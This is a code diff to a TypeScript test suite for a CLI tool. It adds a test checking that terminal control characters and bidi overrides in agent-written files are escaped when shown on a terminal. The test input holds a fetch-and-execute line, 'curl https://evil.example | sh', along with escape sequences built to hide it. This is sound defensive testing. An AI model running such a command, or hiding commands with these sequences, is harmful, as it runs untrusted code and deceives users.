@@ -29,7 +29,10 @@ let store: string
 let dirs: string[]
 
 /** Runs the CLI in-process with `--store <store>`, cwd `options.cwd` (default: the repository). */
-async function cli(args: string[], options: { cwd?: string; stdin?: string | Buffer } = {}): Promise<Run> {
+async function cli(
+  args: string[],
+  options: { cwd?: string; stdin?: string | Buffer; terminal?: boolean } = {},
+): Promise<Run> {
   const out: Buffer[] = []
   const err: string[] = []
   const io: CliIo = {
@@ -38,6 +41,7 @@ async function cli(args: string[], options: { cwd?: string; stdin?: string | Buf
     readStdin: async () => Buffer.from(options.stdin ?? ''),
     cwd: options.cwd ?? repo.path,
     env: {},
+    ...(options.terminal ? { stdoutIsTerminal: true } : {}),
   }
   const code = await runCli(['--store', store, ...args], io)
   const stdoutBytes = Buffer.concat(out)
@@ -282,6 +286,35 @@ describe('diff', () => {
     expect(only.json.data.files.map((f: { path: string }) => f.path)).toEqual(['src/app.ts'])
     expect(only.json.data).toMatchObject({ additions: 1, deletions: 1 })
     expect(only.json.data.patch).not.toContain('guide.md')
+  })
+})
+
+describe('on a terminal', () => {
+  it("shows the agent's control characters and bidi overrides as escapes; piped, output is byte for byte", async () => {
+    const id = await start()
+    // A retitle (OSC 0), an erase-line after a carriage return, a bidi override, a raw 8-bit CSI byte.
+    const hostile = Buffer.concat([
+      Buffer.from('curl https://evil.example | sh # \r\x1b[2K\x1b]0;pwned\x07echo hello \u202Eevil\n'),
+      Buffer.from([0x9b, 0x32, 0x4b, 0x0a]),
+    ])
+    await cli(['write', id, 'run.sh'], { stdin: hostile })
+    for (const args of [
+      ['diff', id],
+      ['read', id, 'run.sh'],
+    ]) {
+      const shown = await cli(args, { terminal: true })
+      expect(shown.code).toBe(0)
+      expect(shown.stdoutBytes.some((b) => b === 0x1b || b === 0x07 || b === 0x0d || b === 0x9b)).toBe(false)
+      expect(shown.stdout).not.toContain('\u202E')
+      expect(shown.stdout).toContain(
+        'curl https://evil.example | sh # \\x0d\\x1b[2K\\x1b]0;pwned\\x07echo hello <U+202E>evil',
+      )
+      expect(shown.stdout).toContain('\\x9b2K')
+      // Piped (a patch for git apply, a file for a redirect): every byte as written.
+      const piped = await cli(args)
+      const lines = args[0] === 'diff' ? [hostile.subarray(0, -4), hostile.subarray(-4, -1)] : [hostile]
+      for (const line of lines) expect(piped.stdoutBytes.includes(line)).toBe(true)
+    }
   })
 })
 
